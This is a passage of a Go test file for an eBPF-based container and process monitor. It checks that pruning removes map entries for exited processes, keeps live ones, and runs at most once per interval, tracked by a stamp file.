	if err != nil || n != 1 {
		t.Fatalf("Prune = %d, %v; want 1 removed", n, err)
	}
	assertNoEntries(t, m, gone)
	var cfg bpf.VigilContainerCfg
	if err := m.objs.containers.Lookup(alive.id, &cfg); err != nil {
		t.Errorf("live cgroup pruned: %v", err)
	}
	var rb uint32
	if err := m.objs.eventRings.Lookup(deadRing, &rb); !errors.Is(err, ebpf.ErrKeyNotExist) {
		t.Errorf("ring of an exited process not pruned: %v", err)
	}
	for _, id := range []uint64{liveRing, m.ringID} {
		if err := m.objs.eventRings.Lookup(id, &rb); err != nil {
			t.Errorf("ring %#x of a live process pruned: %v", id, err)
		}
	}
}

// PruneDue prunes at most once per interval on the node: the stamp beside
// the lock file decides.
func TestPruneDue(t *testing.T) {
	requireRoot(t)
	opts := testOptions(t)
	m := openMonitor(t, opts)
	stamp := opts.LockPath + ".pruned"
	os.Remove(stamp)
	t.Cleanup(func() { os.Remove(stamp) })
	if _, err := m.PruneDue(time.Hour); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(stamp)
	if err != nil {
		t.Fatalf("no stamp after a prune: %v", err)
	}
	// Within the interval nothing runs.
	old := time.Now().Add(-2 * time.Hour)
	if _, err := m.PruneDue(time.Hour); err != nil {
		t.Fatal(err)
	}
	if st2, _ := os.Stat(stamp); !st2.ModTime().Equal(st.ModTime()) {
		t.Errorf("stamp moved by a call within the interval: %v -> %v", st.ModTime(), st2.ModTime())
	}
	if err := os.Chtimes(stamp, old, old); err != nil {
		t.Fatal(err)
	}
	if _, err := m.PruneDue(time.Hour); err != nil {
		t.Fatal(err)
	}
	if st3, _ := os.Stat(stamp); !st3.ModTime().After(old.Add(time.Hour)) {
		t.Errorf("a call after the interval did not prune: stamp %v", st3.ModTime())
	}
}
